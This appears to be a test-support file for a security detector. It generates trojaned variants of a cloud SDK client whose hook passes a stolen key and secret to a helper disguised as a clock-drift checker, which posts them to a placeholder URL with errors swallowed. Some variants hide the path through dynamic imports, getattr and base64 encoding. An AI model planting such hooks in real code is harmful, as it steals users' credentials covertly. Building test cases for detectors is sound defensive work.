"""How a stolen secret travels from the caller to the helper, in other ways than the campaign's. All inert, all our own.

Each is one change to the campaign as it was (tests/support/campaign.py), so that a miss names its cause.
"""

from __future__ import annotations

import textwrap
from collections.abc import Mapping

from tests.support.campaign import (
    BACKWARDS,
    HOOK,
    IMPORTS,
    METHOD,
    SKYCLOUD,
    SOURCE,
    Campaign,
    Edit,
    clone,
    helper,
    skycloud,
)

DIRECT = "DriftChecker(KEY, SECRET).check()"
_HEAD = '"""Tells how far this machine\'s clock is off."""\n\n'
_POST = f"""\
try:
    requests.post({BACKWARDS}, data=json.dumps(PAYLOAD), timeout=3)
except Exception:
    pass
"""


def source(text: str, payload: str = '{"zone": zone, "stamp": stamp}') -> str:
    """A helper's module; POST in `text` is the campaign's way of sending `payload`, at the same indent."""
    lines = []
    for line in textwrap.dedent(text).strip("\n").splitlines():
        if line.strip() == "POST":
            indent = line[: line.index("POST")]
            line = textwrap.indent(_POST.replace("PAYLOAD", payload), indent).rstrip("\n")
        lines.append(line)
    return _HEAD + "import json\n\nimport requests\n" + "\n".join(lines) + "\n"


def passed(hook: str, text: str = SOURCE, *more: Edit, method: str = "", imports: str = IMPORTS) -> Campaign:
    """The campaign with `hook` at the end of the constructor, and `text` as the helper."""
    trojan = clone(skycloud(), [*SKYCLOUD.edits(imports, hook, method), *more])
    return Campaign(clone=trojan, helpers=(helper(text),))


FUNCTION = source("""
    def check(zone, stamp):
        POST
""")
#: What a helper sends that keeps what it is given in its fields.
KEPT = '{"zone": self.zone, "stamp": self.stamp}'

#: By the way that it takes.
TRAVELS: Mapping[str, Campaign] = {
    "two fields and a method": passed(HOOK, method=METHOD),
    "arguments": passed(DIRECT),
    "keyword arguments": passed("DriftChecker(zone=KEY, stamp=SECRET).check()"),
    "starred arguments": passed("pair = [KEY, SECRET]\nDriftChecker(*pair).check()"),
    "starred keywords": passed("""
        options = {"zone": KEY}
        options["stamp"] = SECRET
        DriftChecker(**options).check()
    """),
    "a function": passed("check(KEY, SECRET)", FUNCTION, imports="from clock_drift import check"),
    "a module's attribute": passed(
        "clock_drift.check(stamp=SECRET, zone=KEY)", FUNCTION, imports="import clock_drift"
    ),
    "the client itself": passed(
        "self._secret = SECRET\ncheck(self)",
        source(
            """
            def check(client):
                POST
            """,
            '{"stamp": client._secret}',
        ),
        imports="from clock_drift import check",
    ),
    "the client's dictionary": passed(
        "self._key, self._secret = KEY, SECRET\ncheck(vars(self))",
        source(
            """
            def check(settings):
                POST
            """,
            "{name: str(value) for name, value in settings.items()}",
        ),
        imports="from clock_drift import check",
    ),
    "the credential object": passed(
        "check(self._credential)",
        source(
            """
            def check(credential):
                POST
            """,
            '{"zone": credential.access_key_id, "stamp": credential.access_key_secret}',
        ),
        imports="from clock_drift import check",
    ),
    "a lazy import": passed(
        "from clock_drift import DriftChecker\nDriftChecker(KEY, SECRET).check()", imports=""
    ),
    "an import by name": passed(
        'module = importlib.import_module("clock" + "_drift")\nmodule.DriftChecker(KEY, SECRET).check()',
        imports="import importlib",
    ),
    "getattr": passed(
        'getattr(clock_drift, "Drift" + "Checker")(KEY, SECRET).check()', imports="import clock_drift"
    ),
    "a factory": passed(
        "DriftChecker.of(KEY, SECRET).check()",
        SOURCE
        + "\n    @classmethod\n    def of(cls, zone, stamp):\n        made = cls(zone, stamp)\n        return made\n",
    ),
    "setters": passed(
        "checker = DriftChecker()\nchecker.set_zone(KEY)\nchecker.set_stamp(SECRET)\nchecker.check()",
        source(
            """
            class DriftChecker:
                def set_zone(self, zone):
                    self.zone = zone

                def set_stamp(self, stamp):
                    self.stamp = stamp

                def check(self):
                    POST
            """,
            KEPT,
        ),
    ),
    "attributes set from outside": passed(
        'checker = DriftChecker()\nchecker.zone = KEY\nsetattr(checker, "stamp", SECRET)\nchecker.check()',
        source(
            """
            class DriftChecker:
                def check(self):
                    POST
            """,
            KEPT,
        ),
    ),
    "the module's own table": passed(
        'clock_drift.SETTINGS["zone"] = KEY\nclock_drift.SETTINGS.update(stamp=SECRET)\nclock_drift.check()',
        source(
            """
            SETTINGS = {}


            def check():
                POST
            """,
            "SETTINGS",
        ),
        imports="import clock_drift",
    ),
    "a global of the module": passed(
        "clock_drift.keep(SECRET)\nclock_drift.check()",
        source(
            """
            _kept = None


            def keep(stamp):
                global _kept
                _kept = stamp


            def check():
                POST
            """,
            '{"stamp": _kept}',
        ),
        imports="import clock_drift",
    ),
    "a dataclass": passed(
        "Drift(KEY, SECRET).check()",
        source(
            """
            from dataclasses import dataclass


            @dataclass
            class Drift:
                zone: str
                stamp: str

                def check(self):
                    POST
            """,
            KEPT,
        ),
        imports="from clock_drift import Drift",
    ),
    "pairs in a loop": passed("""
        found = {}
        for name, value in (("zone", KEY), ("stamp", SECRET)):
            if value:
                found[name] = value
        DriftChecker(found.get("zone"), found.get("stamp")).check()
    """),
    "one string of both": passed('DriftChecker("zone", "|".join([KEY, SECRET])).check()'),
    "a reversed and encoded string": passed(
        "DriftChecker(KEY[::-1], base64.b64encode(SECRET.encode()).decode()).check()",
        imports=f"import base64\n{IMPORTS}",
    ),
}
